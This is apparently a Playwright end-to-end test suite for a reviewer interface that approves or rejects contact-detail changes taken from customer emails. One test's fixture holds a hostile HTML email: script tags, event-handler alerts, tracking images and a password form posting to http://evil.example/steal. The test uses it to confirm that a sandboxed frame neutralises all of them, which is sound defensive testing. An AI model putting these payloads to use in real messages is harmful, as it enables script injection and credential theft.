import { expectAccessible, expect, test } from "./fixtures/test";
import { openQueueFor, postMessage, postPhoneChanges, uniqueExchange } from "./review-helpers";

test.use({ role: "reviewer" });

test("evidence is highlighted and linked both ways; edit-and-approve keeps both values", async ({
  page,
  request,
}) => {
  const exchange = uniqueExchange();
  await postMessage(request, {
    contact: 40,
    subject: "New phone number",
    text: `Hi,\n\nmy new phone number is (628) ${exchange}-0142. Thanks!`,
  });
  await openQueueFor(page, { exchange, count: 1 });
  await page.keyboard.press("j");
  await page.keyboard.press("Enter");

  const field = page.getByTestId("proposed-change");
  await expect(field).toContainText("Phone");
  await expect(field).toContainText("Sent to review by rule");
  await expect(field.locator("[data-slot=confidence-meter]")).toContainText(/(high|medium|low) · 0\.\d\d/);
  const mark = page.locator("mark").first();
  await expect(mark).toContainText(`${exchange}-0142`);
  await page.screenshot({ path: "test-results/screens/proposal-evidence.png", fullPage: true });
  // evidence → field
  await mark.click();
  await expect(field).toBeFocused();
  // field → evidence
  await field.getByRole("button", { name: "Show evidence" }).click();
  await expect(mark).toBeFocused();
  await expect(mark).toHaveAttribute("data-active", "true");

  await expectAccessible(page);

  // e edits, Enter keeps the edit, a approves with it
  await page.locator("body").click({ position: { x: 5, y: 5 } });
  await page.keyboard.press("e");
  const input = field.getByLabel("New phone");
  await expect(input).toBeFocused();
  await input.fill(`(628) ${exchange}-0177`);
  await page.keyboard.press("Enter");
  await expect(field.getByTestId("edited-note")).toContainText("Your edit");
  await page.keyboard.press("a");
  await expect(page.getByTestId("decision-notice")).toContainText("Approved and applied");
  await expect(page.locator("#decision-outcome")).toBeFocused();
  await expect(field.getByTestId("edited-note")).toContainText("Edited by a reviewer");
  await expect(field.getByTestId("edited-note")).toContainText(`${exchange} 0142`);
  await expect(field).toContainText(`${exchange} 0177`);

  // back to the queue it was opened from, filters and all
  await page.keyboard.press("Escape");
  await expect(page).toHaveURL(new RegExp(`/queue\\?q=%2B1628${exchange}&sort=age$`));
});

test("fields of one change set are approved and rejected one by one", async ({ page, request }) => {
  const exchange = uniqueExchange();
  await postMessage(request, {
    contact: 41,
    subject: "Two updates",
    text: `Hello,\n\nmy new phone number is (628) ${exchange}-0150 and my new email is new.${exchange}@example.org.\n\nThanks`,
  });
  await openQueueFor(page, { exchange, count: 1 });
  await page.getByTestId("queue-row").getByRole("link").click();
  const fields = page.getByTestId("proposed-change");
  await expect(fields).toHaveCount(2);
  await expect(page.getByTestId("claim-mine")).toBeVisible();

  await page.getByRole("button", { name: "Reject Email only" }).click();
  await page.getByLabel("Reason").fill("Email change must come from the old address");
  await page.keyboard.press("Enter");
  await expect(page.getByTestId("decision-notice")).toContainText("Field rejected");
  await page.getByRole("button", { name: "Approve Phone only" }).click();
  await expect(page.getByTestId("decision-notice")).toContainText("Approved and applied");
  await expect(fields.filter({ hasText: "Email" })).toContainText("Rejected");
  await expect(fields.filter({ hasText: "Phone" })).toContainText("Applied");
  const history = page.getByTestId("audit-events");
  await expect(history.locator('[data-action="change.rejected"]')).toHaveCount(1);
  await expect(history.locator('[data-action="change.approved"]')).toHaveCount(1);
});

test("an HTML email with a script, an event handler, a remote image and a form runs and loads nothing", async ({
  page,
  request,
}) => {
  const remote: string[] = [];
  page.on("request", (r) => {
    if (r.url().includes("evil.example")) remote.push(r.url());
  });
  const dialogs: string[] = [];
  page.on("dialog", async (d) => {
    dialogs.push(d.message());
    await d.dismiss();
  });
  const exchange = uniqueExchange();
  const html = `
    <p>Hello, my new phone number is (628) ${exchange}-0160.</p>
    <script>alert("script ran"); top.document.title = "pwned";</script>
    <img src="x" onerror="alert('handler ran'); top.document.title='pwned'">
    <img src="http://evil.example/pixel.png?read-receipt=1" alt="logo">
    <div style="background:url(http://evil.example/bg.png)">styled</div>
    <form action="http://evil.example/steal" method="post"><input name="password" autofocus onfocus="alert('focus ran')"><button>Send</button></form>
    <a href="javascript:alert('link ran')">click me</a>`;
  await postMessage(request, {
    contact: 42,
    subject: "HTML mail",
    text: `Hello, my new phone number is (628) ${exchange}-0160.`,
    html,
  });
  await openQueueFor(page, { exchange, count: 1 });
  await page.getByTestId("queue-row").getByRole("link").click();
  await expect(page.getByTestId("proposed-change")).toBeVisible();
  const title = await page.title();
  // axe cannot look inside a frame that may run no script, so the page is checked before it opens
  await expectAccessible(page);

  await page.getByTestId("show-html").click();
  const frameElement = page.getByTestId("message-html-frame");
  await expect(frameElement).toBeVisible();
  await expect(frameElement).toHaveAttribute("sandbox", "");
  const frame = page.frameLocator("[data-testid=message-html-frame]");
  await expect(frame.locator("body")).toContainText(`(628) ${exchange}-0160`);
  await expect(frame.locator("script, form, input, button, [onerror], [onfocus]")).toHaveCount(0);
  await expect(frame.locator("img[src^='http']")).toHaveCount(0);
  await expect(frame.locator("a[href]")).toHaveCount(0);
  await frame.getByText("click me").click();
  await page.waitForTimeout(1_500);

  expect(dialogs).toEqual([]);
  expect(remote).toEqual([]);
  expect(await page.title()).toBe(title);
  await page.screenshot({ path: "test-results/screens/html-email.png", fullPage: true });
});

test("j and k walk the queue the item was opened from, and Esc returns to it with its filters", async ({
  page,
  request,
}) => {
  const exchange = uniqueExchange();
  await postPhoneChanges(request, { exchange, contacts: [41, 42, 43] });
  await openQueueFor(page, { exchange, count: 3 });
  const queueUrl = page.url();
  const ids = await page
    .getByTestId("queue-row")
    .getByRole("link")
    .evaluateAll((links) => links.map((link) => link.getAttribute("href")?.split("/").pop() ?? ""));
  expect(ids).toHaveLength(3);

  await page.keyboard.press("j");
  await page.keyboard.press("Enter");
  await expect(page).toHaveURL(new RegExp(`/proposals/${ids[0]}$`));
  await expect(page.getByTestId("trail-position")).toHaveText("1 of 3");
  await page.keyboard.press("j");
  await expect(page).toHaveURL(new RegExp(`/proposals/${ids[1]}$`));
  await expect(page.getByTestId("trail-position")).toHaveText("2 of 3");
  await page.keyboard.press("j");
  await expect(page).toHaveURL(new RegExp(`/proposals/${ids[2]}$`));
  // the end of the list: j stays
  await expect(page.getByRole("button", { name: /^Next/ })).toBeDisabled();
  await page.keyboard.press("k");
  await expect(page).toHaveURL(new RegExp(`/proposals/${ids[1]}$`));
  await page.keyboard.press("Escape");
  await expect(page).toHaveURL(queueUrl);
  await expect(page.getByTestId("queue-row")).toHaveCount(3);
});
